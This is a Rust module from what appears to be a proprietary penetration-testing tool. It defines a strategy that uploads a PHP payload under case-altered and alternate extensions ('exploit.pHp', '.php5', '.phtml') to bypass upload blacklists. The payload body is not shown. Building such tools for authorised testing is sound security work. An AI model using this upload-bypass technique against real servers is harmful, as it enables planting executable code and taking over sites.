// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

use async_trait::async_trait;

use super::common::{php_payload, run_variants, Variant};
use super::{Strategy, StrategyMetadata, StrategyTools, TechRequirements};
use crate::analysis::HypothesisName;
use crate::context::AttackContext;
use crate::errors::TransportError;
use crate::http_client::UploadFile;
use crate::observer::BypassTechnique;
use crate::types::StrategyStatus;

/// Names a case-sensitive or exact-match blacklist misses.
const FILENAMES: &[&str] = &[
    "exploit.pHp",
    "exploit.PHP",
    "exploit.php.",
    "exploit.php5",
    "exploit.phtml",
];

const METADATA: StrategyMetadata = StrategyMetadata {
    name: "case_manipulation",
    description: "Alternate PHP extensions and letter case",
    targets_hypotheses: &[
        HypothesisName::BlacklistFilter,
        HypothesisName::WeakExtensionCheck,
        HypothesisName::IisServer,
    ],
    tech_requirements: TechRequirements {
        language: None,
        version_min: None,
        version_max: None,
    },
    confidence_gain: Some(0.6),
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct CaseManipulation;

#[async_trait]
impl Strategy for CaseManipulation {
    fn metadata(&self) -> &'static StrategyMetadata {
        &METADATA
    }

    async fn execute(
        &self,
        context: &mut AttackContext,
        tools: &mut StrategyTools<'_>,
    ) -> Result<StrategyStatus, TransportError> {
        let payload = php_payload(tools.payload);
        let variants = FILENAMES
            .iter()
            .map(|name| {
                Variant::new(UploadFile::new(*name, payload.clone()).with_content_type("application/x-php"))
            })
            .collect();
        run_variants(context, tools, BypassTechnique::CaseManipulation, variants).await
    }
}
